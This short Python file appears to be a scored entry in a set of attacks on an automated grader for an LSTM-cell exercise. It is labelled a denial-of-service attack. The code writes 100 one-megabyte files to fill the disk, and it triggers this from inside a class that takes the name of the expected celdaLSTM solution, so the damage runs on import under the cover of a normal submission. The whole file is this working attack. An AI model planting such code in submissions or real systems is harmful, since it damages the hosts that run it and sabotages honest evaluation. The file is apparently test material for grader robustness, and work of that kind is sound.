# /// attack
# title = "The disk full while the cell is right"
# group = "Denial of service"
# verdict = "OK"
# points = 100
# ///
import os


def llena():
    try:
        for numero in range(100):
            with open(f"huella-ataque-{numero}", "wb") as archivo:
                archivo.write(bytes(1 << 20))
    except OSError:
        pass


class celdaLSTM(celdaLSTM):
    llena()
